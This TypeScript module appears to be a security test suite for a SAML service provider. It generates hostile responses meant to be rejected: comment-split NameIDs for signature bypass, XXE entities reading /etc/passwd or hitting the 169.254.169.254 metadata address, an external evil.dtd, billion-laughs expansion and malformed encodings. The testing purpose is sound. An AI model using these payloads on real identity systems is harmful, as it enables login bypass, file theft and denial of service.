import { deflateRawSync } from 'node:zlib';
import { encodeResponse, type ResponseOptions } from '../identity-provider.js';
import type { Kit } from '../kit.js';
import { EXCLUSIVE_C14N_WITH_COMMENTS } from '../signing.js';
import { type HostileResponse, VICTIM } from './hostile-response.js';

/** Markup that readers of XML resolve, skip or read in two ways. */
export const specialMarkup: HostileResponse[] = [
  ...(['response', 'assertion', 'both'] as const).map((sign) =>
    injected(`a comment splits the name, ${sign} signed`, { sign, nameId: `${VICTIM}.example.net` }, (xml) =>
      xml.replace(`${VICTIM}.example.net`, `${VICTIM}<!---->.example.net`),
    ),
  ),
  {
    name: 'a comment splits the name and is signed with it',
    reason: 'forbidden-markup',
    make: async (kit) =>
      encodeResponse(
        await kit.respond({
          sign: 'both',
          nameId: `${VICTIM}.example.net`,
          canonicalization: EXCLUSIVE_C14N_WITH_COMMENTS,
          rewriteAssertion: (xml) => xml.replace('.example.net', '<!---->.example.net'),
        }),
      ),
  },
  injected('a comment splits an attribute', { sign: 'both', attributes: { role: 'reader' } }, (xml) =>
    xml.replace('reader', 'read<!-- -->er'),
  ),
  injected('a comment stands in a digest', { sign: 'both' }, (xml) =>
    xml.replace(/<ds:DigestValue>/, '<ds:DigestValue><!--AAAA-->'),
  ),
  injected('a comment precedes the root', { sign: 'both' }, (xml) => `<!-- hello -->${xml}`),
  injected('the name is CDATA', { sign: 'both', nameId: VICTIM }, (xml) =>
    xml.replace(VICTIM, `<![CDATA[${VICTIM}]]>`),
  ),
  injected('a processing instruction splits the name', { sign: 'both', nameId: `${VICTIM}.example.net` }, (xml) =>
    xml.replace('.example.net', '<?x?>.example.net'),
  ),
  injected(
    'a stylesheet is asked for',
    { sign: 'both' },
    (xml) => `<?xml-stylesheet href="https://example.net/"?>${xml}`,
  ),
  injected(
    'a declaration is followed by another',
    { sign: 'both' },
    (xml) => `<?xml version="1.0"?><?xml version="1.0"?>${xml}`,
  ),
];

/** Document types, with all that they can do. */
export const documentTypes: HostileResponse[] = [
  typed('a document type says nothing', '<!DOCTYPE r>'),
  typed('a document type comes from elsewhere', '<!DOCTYPE r SYSTEM "https://example.net/evil.dtd">'),
  typed('an entity is the victim', `<!DOCTYPE r [<!ENTITY n "${VICTIM}">]>`, '&n;'),
  typed('an entity is a file', '<!DOCTYPE r [<!ENTITY n SYSTEM "file:///etc/passwd">]>', '&n;'),
  typed('an entity is an address', '<!DOCTYPE r [<!ENTITY n SYSTEM "http://169.254.169.254/">]>', '&n;'),
  typed('a parameter entity is an address', '<!DOCTYPE r [<!ENTITY % n SYSTEM "https://example.net/evil.dtd"> %n;]>'),
  typed('entities multiply to a billion', `<!DOCTYPE r [${billion()}]>`, '&e9;'),
  typed('an attribute becomes an ID', '<!DOCTYPE r [<!ATTLIST saml:Assertion Name ID #REQUIRED>]>'),
];

/** Fields that hold no document at all, or none that can be read in one way. */
export const unreadable: HostileResponse[] = [
  { name: 'it is empty', reason: 'unreadable', make: () => '' },
  { name: 'it is blank', reason: 'unreadable', make: () => ' \r\n ' },
  { name: 'it is no base64', reason: 'unreadable', make: () => '<samlp:Response>*</samlp:Response>' },
  {
    name: 'it is base64 of no XML',
    reason: 'unreadable',
    make: () => encodeResponse('{"nameId":"victim@example.com"}'),
  },
  { name: 'it is base64 of nothing but space', reason: 'unreadable', make: () => encodeResponse(' \n ') },
  {
    name: 'it is base64 of random bytes',
    reason: 'unreadable',
    make: () => Buffer.alloc(300, 0xf5).toString('base64'),
  },
  injected('it ends in the middle', { sign: 'both' }, (xml) => xml.slice(0, -20), ['unreadable']),
  injected('a second document follows', { sign: 'both' }, (xml) => xml + xml, ['unreadable', 'one-assertion']),
  injected('text follows the document', { sign: 'both' }, (xml) => `${xml}text`, ['unreadable']),
  injected('text precedes the document', { sign: 'both' }, (xml) => `text${xml}`, ['unreadable']),
  {
    name: 'characters that are no base64 stand between others',
    reason: 'unreadable',
    make: async (kit) => encodeResponse(await kit.respond({ sign: 'both' })).replace(/^.{40}/, '$&*%!'),
  },
  injected(
    'an end tag has another name',
    { sign: 'both', attributes: { role: 'reader' } },
    (xml) => xml.replace('</saml:Attribute>', '</saml:Other>'),
    ['unreadable'],
  ),
  injected(
    'an end tag closes two elements',
    { sign: 'both' },
    (xml) => xml.replace('</saml:SubjectConfirmation></saml:Subject>', '</saml:Subject>'),
    ['unreadable'],
  ),
  injected(
    'a value of an attribute has a tag in it',
    { sign: 'assertion' },
    (xml) => xml.replace(' Version=', ' Consent="<saml:NameID>" Version='),
    ['unreadable'],
  ),
  injected('an entity is not declared', { sign: 'none' }, (xml) => xml.replace('ada@', 'ada&nbsp;@'), ['unreadable']),
  injected('an attribute is there twice', { sign: 'none' }, (xml) => xml.replace(' ID=', ' ID="_evil" ID='), [
    'unreadable',
  ]),
  injected(
    'a prefix is bound to nothing',
    { sign: 'none' },
    (xml) => xml.replace('<samlp:Status>', '<x:y/><samlp:Status>'),
    ['unreadable', 'unsigned'],
  ),
  encoded('it is UTF-16', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le')),
  encoded('it is UTF-16 and says so', (xml) =>
    Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${xml}`, 'utf16le'),
  ),
  encoded('it has bytes that are no UTF-8', (xml) => Buffer.from(xml.replace('ada@', 'ad\u00e4@'), 'latin1')),
  encoded('it is compressed, as in an address', (xml) => deflateRawSync(xml)),
  {
    name: 'it is larger than any real one',
    reason: 'too-large',
    make: (kit) => padded(kit, 1024 * 1024),
  },
  {
    name: 'it is a little larger than allowed',
    reason: 'too-large',
    make: (kit) => padded(kit, 400 * 1024),
  },
  injected(
    'it is nested deeper than any real one',
    { sign: 'none' },
    (xml) =>
      xml.replace(
        '<samlp:Status>',
        `<samlp:Extensions>${'<a>'.repeat(9000)}${'</a>'.repeat(9000)}</samlp:Extensions><samlp:Status>`,
      ),
    ['unreadable'],
  ),
];

function injected(
  name: string,
  options: Pick<ResponseOptions, 'sign'> & Partial<ResponseOptions>,
  inject: (xml: string) => string,
  reason: HostileResponse['reason'] = 'forbidden-markup',
): HostileResponse {
  return {
    name,
    reason,
    make: async (kit) => {
      const xml = await kit.respond(options);
      const result = inject(xml);
      if (result === xml) throw new Error(`There is nothing to change in ${xml}`);
      return encodeResponse(result);
    },
  };
}

/** A document type before the response, and what stands for the name in it. */
function typed(name: string, documentType: string, nameId = 'ada@example.com'): HostileResponse {
  return injected(name, { sign: 'both' }, (xml) => documentType + xml.replace('ada@example.com', nameId));
}

function encoded(name: string, encode: (xml: string) => Buffer): HostileResponse {
  return {
    name,
    reason: 'unreadable',
    make: async (kit) => encode(await kit.respond({ sign: 'both' })).toString('base64'),
  };
}

async function padded(kit: Kit, characters: number): Promise<string> {
  return encodeResponse(await kit.respond({ sign: 'both', attributes: { filler: 'x'.repeat(characters) } }));
}

/** Ten times ten times ... ten: as an entity, three lines are gigabytes. */
function billion(): string {
  const levels = Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`);
  return `<!ENTITY e0 "ha">${levels.join('')}`;
}
